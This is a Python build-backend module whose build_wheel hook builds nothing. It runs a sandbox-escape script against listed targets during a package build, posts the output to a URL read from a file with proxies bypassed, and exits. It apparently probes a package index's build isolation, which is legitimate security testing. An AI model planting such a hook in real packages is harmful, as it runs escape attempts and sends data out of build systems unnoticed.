"""Try the ways to escape while a source package is built, and send the results to the package index."""

import os
import subprocess
import sys
import tempfile
import urllib.request


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    """Try the ways instead of building a wheel."""
    here = os.path.dirname(os.path.abspath(__file__))
    with open(here + "/names") as f:
        names = f.read().split("\n")
    with open(here + "/url") as f:
        url = f.read()
    environment = dict(os.environ, SERVICE_JOB_WORKDIR=tempfile.mkdtemp())
    tried = subprocess.run([sys.executable, here + "/ways.py", here + "/targets.json", *names], env=environment, stdout=subprocess.PIPE)
    urllib.request.build_opener(urllib.request.ProxyHandler({})).open(url, data=tried.stdout, timeout=60).close()
    raise SystemExit("the ways were tried")
